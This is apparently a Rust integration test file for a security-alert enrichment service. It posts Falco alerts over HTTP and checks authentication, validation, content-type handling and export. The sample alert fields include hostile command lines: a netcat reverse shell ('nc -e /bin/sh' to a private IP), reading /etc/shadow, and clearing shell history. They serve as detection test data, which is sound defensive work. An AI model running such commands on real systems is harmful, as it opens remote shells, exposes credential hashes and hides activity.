//! Falco's `http_output` (and falcosidekick's webhook) posting to `POST /falco`: treated exactly
//! like a gRPC detection, answered 200 only once every alert is durably exported.

#![allow(clippy::unwrap_used)]

mod common;

use std::collections::BTreeSet;

use attackmesh_testkit::{wait_for_sink, wait_health};
use common::*;
use tonic_health::pb::health_check_response::ServingStatus;

/// What Falco's `http_output` and falcosidekick send.
const JSON: (&str, &str) = ("content-type", "application/json");

fn alert(rule: &str, cmdline: &str) -> String {
    serde_json::json!({
        "hostname": "node-7",
        "output": format!("Notice shell spawned ({cmdline})"),
        "priority": "Notice",
        "rule": rule,
        "source": "syscall",
        "tags": ["container", "mitre_execution", "T1059"],
        "time": chrono::Utc::now().to_rfc3339(),
        "output_fields": {"proc.cmdline": cmdline, "proc.name": "bash", "user.name": "root"},
    })
    .to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn falco_alerts_over_http_are_enriched_and_exported() {
    let cluster = Cluster::start_with(|c| c.max_body_bytes = 64 * 1024).await;
    let http = cluster.enrichment.http.unwrap();
    let bearer = |t: &str| format!("Bearer {t}");

    let one = alert("Terminal shell in container", "bash -i");
    let (status, _, body) = http_post(
        http,
        "/falco",
        &[("authorization", &bearer(DETECTOR_TOKEN)), JSON],
        one.as_bytes(),
    )
    .await;
    assert_eq!(status, 200, "{body}");
    let answer: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(answer["accepted"], 1);

    let many = format!(
        "{}\n{}\n",
        alert("Read sensitive file untrusted", "cat /etc/shadow"),
        alert("Netcat remote code execution", "nc -e /bin/sh 10.0.0.1 4444")
    );
    let (status, _, body) = http_post(
        http,
        "/falco",
        &[("authorization", &bearer(DETECTOR_TOKEN)), JSON],
        many.as_bytes(),
    )
    .await;
    assert_eq!(status, 200, "NDJSON of several alerts: {body}");
    let array = format!(
        "[{},{}]",
        alert("Write below etc", "touch /etc/x"),
        alert("Clear log activities", "history -c")
    );
    let (status, _, body) = http_post(
        http,
        "/falco",
        &[("authorization", &bearer(DETECTOR_TOKEN)), JSON],
        array.as_bytes(),
    )
    .await;
    assert_eq!(status, 200, "a JSON array: {body}");

    let expected: BTreeSet<String> = [&one, &many, &array]
        .iter()
        .flat_map(|b| attackmesh_enrichment::http::parse_body(b).unwrap())
        .map(|e| e.event_id)
        .collect();
    assert_eq!(expected.len(), 5);
    let events = wait_for_sink(&cluster.sink(), &expected, |_| true).await;
    let shell = events.iter().find(|e| e.description.contains("bash -i")).unwrap();
    assert_eq!(shell.event_type, "falco.alert");
    assert_eq!(shell.original_format, "falco");
    assert_eq!(shell.submitted_by, "det", "the token that posted the alert is recorded");
    assert!(
        shell.technique_ids.contains(&"T1059".to_owned()),
        "{:?}",
        shell.technique_ids
    );

    // Refusals.
    let (status, headers, _) = http_post(http, "/falco", &[JSON], one.as_bytes()).await;
    assert_eq!(status, 401);
    assert_eq!(headers.get("www-authenticate").map(String::as_str), Some("Bearer"));
    let (status, _, _) = http_post(
        http,
        "/falco",
        &[("authorization", &bearer("nope")), JSON],
        one.as_bytes(),
    )
    .await;
    assert_eq!(status, 401);
    let (status, _, _) = http_post(
        http,
        "/falco",
        &[("authorization", &bearer(ANALYST_TOKEN)), JSON],
        one.as_bytes(),
    )
    .await;
    assert_eq!(status, 403);
    let (status, _, body) = http_post(
        http,
        "/falco",
        &[("authorization", &bearer(DETECTOR_TOKEN)), JSON],
        b"{\"rule\":\"no time\"}",
    )
    .await;
    assert_eq!(status, 400);
    assert!(body.contains("time"), "the reason names the field: {body}");
    let huge = vec![b' '; 70 * 1024];
    let (status, _, _) = http_post(
        http,
        "/falco",
        &[("authorization", &bearer(DETECTOR_TOKEN)), JSON],
        &huge,
    )
    .await;
    assert_eq!(status, 413);

    // An alert that parses but fails validation is rejected; its neighbour is delivered.
    let mut bad: serde_json::Value = serde_json::from_str(&alert("Bad time", "id")).unwrap();
    bad["time"] = serde_json::json!("2150-01-01T00:00:00Z");
    let body = format!("{}\n{}", alert("Good one", "uname -a"), bad);
    let (status, _, body) = http_post(
        http,
        "/falco",
        &[("authorization", &bearer(DETECTOR_TOKEN)), JSON],
        body.as_bytes(),
    )
    .await;
    assert_eq!(status, 400, "{body}");
    let answer: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(answer["accepted"], 1);
    assert_eq!(answer["rejections"][0]["index"], 1);
    assert_eq!(answer["rejections"][0]["violations"][0]["field"], "timestamp");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn falco_gets_503_with_retry_after_when_export_is_down() {
    let mut cluster = Cluster::start().await;
    let http = cluster.enrichment.http.unwrap();
    cluster.export.take().unwrap().kill();
    wait_health(cluster.enrichment.addr, ServingStatus::NotServing).await;
    let body = alert("Terminal shell in container", "sh");
    let (status, headers, body) = http_post(
        http,
        "/falco",
        &[("authorization", &format!("Bearer {DETECTOR_TOKEN}")), JSON],
        body.as_bytes(),
    )
    .await;
    assert_eq!(status, 503, "{body}");
    let after: u64 = headers["retry-after"].parse().unwrap();
    assert!(after >= 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn falco_refuses_other_content_types_and_unknown_priorities() {
    let cluster = Cluster::start().await;
    let http = cluster.enrichment.http.unwrap();
    let auth = format!("Bearer {DETECTOR_TOKEN}");
    let one = alert("Terminal shell in container", "bash -l");
    for content_type in [Some("text/plain"), Some("application/x-www-form-urlencoded"), None] {
        let mut headers = vec![("authorization", auth.as_str())];
        headers.extend(content_type.map(|t| ("content-type", t)));
        let (status, _, body) = http_post(http, "/falco", &headers, one.as_bytes()).await;
        assert_eq!(status, 415, "{content_type:?}: {body}");
        assert!(
            body.contains("application/json"),
            "the answer says what to send: {body}"
        );
    }
    for content_type in [
        "application/json",
        "Application/JSON; charset=utf-8",
        "application/x-ndjson",
    ] {
        let (status, _, body) = http_post(
            http,
            "/falco",
            &[("authorization", &auth), ("content-type", content_type)],
            one.as_bytes(),
        )
        .await;
        assert_eq!(status, 200, "{content_type}: {body}");
    }

    // Every Falco priority is known; anything else names the field.
    for priority in [
        "Emergency",
        "Alert",
        "Critical",
        "Error",
        "Warning",
        "Notice",
        "Informational",
        "Info",
        "Debug",
    ] {
        let mut known: serde_json::Value = serde_json::from_str(&alert("Known priority", priority)).unwrap();
        known["priority"] = serde_json::json!(priority);
        let (status, _, body) = http_post(
            http,
            "/falco",
            &[("authorization", &auth), JSON],
            known.to_string().as_bytes(),
        )
        .await;
        assert_eq!(status, 200, "{priority}: {body}");
    }
    let mut odd: serde_json::Value = serde_json::from_str(&alert("Odd priority", "id")).unwrap();
    odd["priority"] = serde_json::json!("Urgent");
    let (status, _, body) = http_post(
        http,
        "/falco",
        &[("authorization", &auth), JSON],
        odd.to_string().as_bytes(),
    )
    .await;
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("priority") && body.contains("Urgent"), "{body}");
}
